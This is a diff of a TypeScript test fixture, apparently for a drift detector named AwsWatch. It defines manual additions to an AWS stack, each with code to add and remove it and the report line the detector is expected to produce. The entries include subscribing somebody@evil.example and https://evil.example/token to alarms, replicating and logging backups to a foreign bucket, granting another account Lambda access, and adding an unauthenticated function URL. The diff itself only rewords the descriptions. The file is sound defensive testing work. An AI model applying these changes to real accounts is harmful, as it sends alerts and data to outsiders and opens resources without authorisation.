@@ -29,7 +29,7 @@ import { CreateScheduleCommand, DeleteScheduleCommand } from "@aws-sdk/client-sc
 import { ListSubscriptionsByTopicCommand, SubscribeCommand, UnsubscribeCommand } from "@aws-sdk/client-sns";
 import type { Clouds } from "./clouds";
 
-/** AWS names of the resources to which somebody can add something. */
+/** AWS names of the resources to which a manual change can add something. */
 export interface Places {
   readonly bucket: string;
   readonly topicArn: string;
@@ -43,13 +43,13 @@ export interface Places {
   readonly roleArn: string;
 }
 
-/** Something that somebody adds outside of the stack, and that no resource of the aws provider reports. */
+/** An addition outside of the stack that no resource of the aws provider reports. */
 export interface Addition {
   readonly name: string;
   readonly by: string;
   add(clouds: Clouds, places: Places): Promise<unknown>;
   remove(clouds: Clouds, places: Places): Promise<unknown>;
-  /** The line of the report: severity, identity and the start of its value. `$bucket` and the like are placeholders for the names. */
+  /** The reported line: severity, identity and the start of its value. `$bucket` and the like are placeholders for the names. */
   readonly reports: string;
 }
 
@@ -68,17 +68,17 @@ const unsubscribe = async ({ sns }: Clouds, { topicArn: TopicArn }: Places, endp
 
 const foreignBucket = "of-somebody-else";
 
-/** AwsWatch reports these, an update does not change them, and they are accepted by name. */
+/** AwsWatch reports these, an up does not remove them, and they can be accepted by name. */
 export const additions: readonly Addition[] = [
   {
-    name: "another address gets the alarms",
+    name: "another email address is subscribed to the alarms",
     by: "aws sns subscribe --protocol email",
     add: async (clouds, places) => await subscribe(clouds, places, "email", "somebody@evil.example"),
     remove: async (clouds, places) => await unsubscribe(clouds, places, "somebody@evil.example"),
     reports: "opens    topic subscription email somebody@evil.example: added: of account",
   },
   {
-    name: "a webhook gets the alarms",
+    name: "a webhook is subscribed to the alarms",
     by: "aws sns subscribe --protocol https",
     add: async (clouds, places) => await subscribe(clouds, places, "https", "https://evil.example/token"),
     remove: async (clouds, places) => await unsubscribe(clouds, places, "https://evil.example/token"),
@@ -113,7 +113,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    schedule $scheduleGroup/by-hand: added: ENABLED, $clusterArn",
   },
   {
-    name: "pages of another site may read the bucket",
+    name: "a CORS rule is added to the bucket",
     by: "aws s3api put-bucket-cors",
     add: async ({ s3 }, { bucket: Bucket }) =>
       await s3.send(
@@ -126,7 +126,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    bucket CORS $bucket: added: ",
   },
   {
-    name: "the bucket is a website",
+    name: "website hosting is enabled on the bucket",
     by: "aws s3api put-bucket-website",
     add: async ({ s3 }, { bucket: Bucket }) =>
       await s3.send(
@@ -139,7 +139,7 @@ export const additions: readonly Addition[] = [
     reports: 'opens    bucket website $bucket: added: {"IndexDocument":{"Suffix":"index.html"}}',
   },
   {
-    name: "every new object is told to another topic",
+    name: "a notification of every new object is sent to another topic",
     by: "aws s3api put-bucket-notification-configuration",
     add: async ({ s3 }, { bucket: Bucket, topicArn }) =>
       await s3.send(
@@ -157,7 +157,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    bucket notification $bucket: added: ",
   },
   {
-    name: "every backup is copied to another bucket",
+    name: "every backup is replicated to another bucket",
     by: "aws s3api put-bucket-replication",
     add: async ({ s3 }, { bucket: Bucket, roleArn }) =>
       await s3.send(
@@ -183,7 +183,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    bucket replication $bucket: added: ",
   },
   {
-    name: "every access to a backup is logged for somebody else",
+    name: "access logs of the bucket are delivered to another bucket",
     by: "aws s3api put-bucket-logging",
     add: async ({ s3 }, { bucket }) => {
       await s3.send(new CreateBucketCommand({ Bucket: foreignBucket }));
@@ -205,7 +205,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    bucket logging $bucket: added: ",
   },
   {
-    name: "the log of the backups is sent elsewhere",
+    name: "a subscription forwards the log of the backups",
     by: "aws logs put-subscription-filter",
     add: async ({ logs }, { logGroup: logGroupName, topicArn }) =>
       await logs.send(
@@ -221,7 +221,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    log subscription $logGroup by-hand: added: arn:aws:logs:",
   },
   ...["events.amazonaws.com", "210987654321"].map((Principal, index) => ({
-    name: `${Principal} may call the probe, whose answers say how the database is`,
+    name: `${Principal} may invoke the probe, whose results describe the database`,
     by: "aws lambda add-permission",
     add: async ({ lambda }: Clouds, { functionName: FunctionName }: Places) =>
       await lambda.send(
@@ -234,7 +234,7 @@ export const additions: readonly Addition[] = [
     reports: `opens    function permission $functionName by-hand-${index}: added: `,
   })),
   {
-    name: "the probe gets an address of its own, without a login",
+    name: "a URL without authentication is added to the probe",
     by: "aws lambda create-function-url-config --auth-type NONE",
     add: async ({ lambda }, { functionName: FunctionName }) =>
       await lambda.send(new CreateFunctionUrlConfigCommand({ FunctionName, AuthType: "NONE" })),
@@ -243,7 +243,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    function URL $functionName: added: auth NONE",
   },
   {
-    name: "what the probe answers is sent to another topic",
+    name: "the probe's results are sent to another topic",
     by: "aws lambda put-function-event-invoke-config --destination-config",
     add: async ({ lambda }, { functionName: FunctionName, topicArn }) =>
       await lambda.send(
@@ -257,7 +257,7 @@ export const additions: readonly Addition[] = [
     reports: "opens    function destination $functionName on success: added: $topicArn",
   },
   {
-    name: "a service runs the task all day",
+    name: "a service that runs the task permanently is added",
     by: "aws ecs create-service",
     add: async ({ ecs }, { clusterArn: cluster, taskDefinitionArn: taskDefinition }) =>
       await ecs.send(
